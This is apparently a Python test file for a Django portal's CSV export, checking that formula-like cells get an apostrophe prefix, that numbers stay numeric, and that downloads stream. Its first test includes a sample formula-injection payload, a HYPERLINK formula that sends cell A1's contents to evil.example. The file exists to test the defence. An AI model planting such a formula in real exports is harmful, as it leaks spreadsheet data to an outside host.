"""CSV files the portal writes: no cell runs as a formula when opened in a spreadsheet, and rows stream."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from decimal import Decimal

from django.http import StreamingHttpResponse

from core.csv import Cell, csv_cell, csv_lines, csv_response


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_cells_a_spreadsheet_would_evaluate_are_written_as_text() -> None:
    dangerous = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "@SUM(A1:A9)", "+1", "-1+1", "\t=1+1", "\r=1+1"]
    rows = _read("".join(csv_lines(["payload"], [[value] for value in dangerous])))
    assert rows[0] == ["payload"]
    assert [row[0] for row in rows[1:]] == ["'" + value for value in dangerous]
    assert all(row[0].startswith("'") for row in rows[1:])


def test_ordinary_text_and_numbers_are_unchanged_and_negative_numbers_stay_numeric() -> None:
    assert csv_cell("Harbor Street Logistics Fund I") == "Harbor Street Logistics Fund I"
    assert csv_cell("user@example.com") == "user@example.com"
    assert csv_cell(-1250) == -1250 and csv_cell(Decimal("-12.50")) == Decimal("-12.50") and csv_cell(-0.5) == -0.5
    assert csv_cell(None) == ""
    text = "".join(csv_lines(["reference", "amount"], [["TSR-1", -1250], ["TSR-2", Decimal("-12.50")]]))
    assert text == "reference,amount\r\nTSR-1,-1250\r\nTSR-2,-12.50\r\n"  # no apostrophe before a number


def test_a_download_streams_one_row_at_a_time() -> None:
    pulled: list[int] = []

    def rows() -> Iterator[list[Cell]]:
        for n in range(1, 1001):
            pulled.append(n)
            yield [f"line {n}", n, "=1+1"]

    response = csv_response(filename="wires.csv", header=["line", "n", "note"], rows=rows())
    assert isinstance(response, StreamingHttpResponse) and response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="wires.csv"'
    content = response.streaming_content
    assert isinstance(content, Iterator)  # a synchronous stream, as WSGI serves it
    chunks = iter(content)
    assert next(chunks) == b"line,n,note\r\n" and pulled == []
    assert next(chunks) == b"line 1,1,'=1+1\r\n" and pulled == [1]
    rest = b"".join(chunks).decode()
    assert len(pulled) == 1000 and rest.count("\r\n") == 999 and "'=1+1" in rest
